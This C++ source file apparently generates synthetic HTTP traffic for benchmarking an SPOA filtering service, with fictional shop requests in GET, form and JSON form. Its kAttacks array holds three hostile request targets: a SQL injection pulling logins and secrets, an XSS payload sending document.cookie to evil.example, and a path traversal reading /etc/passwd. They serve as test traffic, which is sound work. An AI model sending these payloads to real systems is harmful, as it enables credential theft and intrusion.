#include "mix.h"

#include <array>
#include <cstddef>
#include <string_view>

#include <fmt/format.h>

namespace spoa::bench {
namespace {

constexpr std::array<std::string_view, 4> kBrowsers{
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/139.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
    "like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/139.0.0.0 Mobile Safari/537.36"};
constexpr std::array<std::string_view, 6> kThings{
    "kettle", "lantern", "bicycle bell", "notebook", "wool blanket", "teapot"};
constexpr std::array<std::string_view, 4> kGroups{"kitchen", "garden", "light", "paper"};
constexpr std::array<std::string_view, 5> kColours{"green", "copper", "white", "ochre",
                                                   "slate"};
constexpr std::array<std::string_view, 6> kTowns{"Freiburg", "Uppsala", "Nantes",
                                                 "Bergamo",  "Coimbra", "Maribor"};
constexpr std::array<std::string_view, 6> kPeople{"Hanna", "Pierre", "Ines",
                                                  "Marko", "Giulia", "Lars"};
constexpr std::array<std::string_view, 3> kPraise{
    "Made by hand in a small workshop and packed without plastic, with a guarantee of "
    "five "
    "years on every part that moves. Most of them are still at work in the kitchens of "
    "our first customers.",
    "Sturdy enough for daily use and light enough to carry along, it comes with a linen "
    "bag "
    "and a card that tells how to look after it. Spare parts are kept in stock for at "
    "least ten years.",
    "The surface is oiled, not painted, so that it grows darker over the years and can "
    "be "
    "repaired with a cloth and some patience. No two of them look alike, which we think "
    "is rather the point."};

constexpr std::array<std::string_view, 3> kAttacks{
    "/catalogue?article=9%27%20UNION%20SELECT%20login,secret%20FROM%20accounts--%20",
    "/find?words=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E",
    "/manual?page=../../../../../../etc/passwd"};

template <std::size_t N>
std::string_view pick(const std::array<std::string_view, N>& words, unsigned number) {
  return words[number % N];
}

/// Hexadecimal digits that look like those of a token.
std::string token(unsigned seed, std::size_t length) {
  std::string text;
  std::uint64_t state = seed + 1;
  while (text.size() < length) {
    state = state * 6364136223846793005U + 1442695040888963407U;
    text += fmt::format("{:08x}", static_cast<std::uint32_t>(state >> 32));
  }
  text.resize(length);
  return text;
}

/// The request's head up to the headers that say what its body is.
std::string head(std::string_view method, std::string_view target, unsigned variant) {
  return fmt::format(
      "{} {} HTTP/1.1\r\n"
      "Host: www.shop.example\r\n"
      "User-Agent: {}\r\n"
      "Accept: "
      "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8\r\n"
      "Accept-Language: de-AT,de;q=0.8,en;q=0.5\r\n"
      "Accept-Encoding: gzip, deflate\r\n"
      "Referer: https://www.shop.example/shelf/{}\r\n"
      "Cookie: basket={}; layout=wide\r\n"
      "Upgrade-Insecure-Requests: 1\r\n"
      "Connection: keep-alive\r\n",
      method, target, pick(kBrowsers, variant), 1 + variant % 12, token(variant, 32));
}

std::string with_body(std::string_view target, unsigned variant, std::string_view type,
                      std::string_view body) {
  return fmt::format("{}Content-Type: {}\r\nContent-Length: {}\r\n\r\n{}",
                     head("POST", target, variant), type, body.size(), body);
}

std::string query_target(unsigned variant) {
  return fmt::format("/shelf?group={}&colour={}&page={}&order=newest&count={}",
                     pick(kGroups, variant), pick(kColours, variant), 1 + variant,
                     12 * (1 + variant % 4));
}

std::string form_body(unsigned variant) {
  constexpr std::size_t kBytes = 500;
  const std::string_view person = pick(kPeople, variant);
  std::string body = fmt::format(
      "given_name={}&family_name=Winter&email={}.winter%40mail.example&street=Orchard+"
      "Road+"
      "{}&town={}&postal_code={}&country=AT&phone=%2B43660{}&delivery=parcel+shop&gift="
      "no&"
      "items={}&voucher=AUTUMN{}&remark=The+bell+is+broken%2C+please+knock+at+the+green+"
      "door"
      "+on+the+left+side+of+the+yard.&terms=accepted&form_key=",
      person, person, 3 + variant, pick(kTowns, variant), 1010 + 70 * variant,
      7000000 + 311 * variant, 1 + variant % 5, 10 + variant);
  if (body.size() < kBytes) body += token(variant + 1000, kBytes - body.size());
  return body;
}

std::string json_item(unsigned variant, unsigned line) {
  return fmt::format(R"({{"article":"A-{}","name":"{} in {}","about":"{}","amount":{},)"
                     R"("price":{}.50,"unit":"piece","taxed":true}})",
                     token(variant * 8 + line, 8), pick(kThings, variant + line),
                     pick(kColours, variant + 2 * line), pick(kPraise, variant + line),
                     1 + line, 9 + 4 * line + variant);
}

/// 12 values beside five items of 7.
std::string json_body(unsigned variant) {
  std::string items;
  for (unsigned line = 0; line < 5; ++line) {
    if (line > 0) items += ',';
    items += json_item(variant, line);
  }
  return fmt::format(
      R"({{"order":"{}","buyer":{{"number":{},"name":"{} Winter","town":"{}",)"
      R"("language":"de"}},"items":[{}],"parcel":{{"service":"standard",)"
      R"("insured":false}},"paid":"invoice","newsletter":false,"channel":"web",)"
      R"("voucher":null,"remark":"Please ring twice and leave it with the neighbours."}})",
      token(variant + 77, 24), 20000 + variant, pick(kPeople, variant),
      pick(kTowns, variant), items);
}

}  // namespace

std::string built_in_request(RequestKind kind, unsigned variant) {
  switch (kind) {
    case RequestKind::kGet:
      return head("GET", "/", variant) + "\r\n";
    case RequestKind::kQuery:
      return head("GET", query_target(variant), variant) + "\r\n";
    case RequestKind::kForm:
      return with_body("/order/address", variant, "application/x-www-form-urlencoded",
                       form_body(variant));
    case RequestKind::kJson:
      return with_body("/api/order", variant, "application/json", json_body(variant));
    case RequestKind::kAttack:
      return head("GET", pick(kAttacks, variant), variant) + "\r\n";
  }
  return {};
}

Rotation::Rotation(const MixWeights& weights) : weights_(weights) {
  for (const std::uint32_t weight : weights) sum_ += weight;
}

RequestKind Rotation::next() noexcept {
  std::size_t best = 0;
  for (std::size_t i = 0; i < kRequestKinds; ++i) {
    credit_[i] += weights_[i];
    if (credit_[i] > credit_[best]) best = i;
  }
  credit_[best] -= sum_;
  return static_cast<RequestKind>(best);
}

}  // namespace spoa::bench
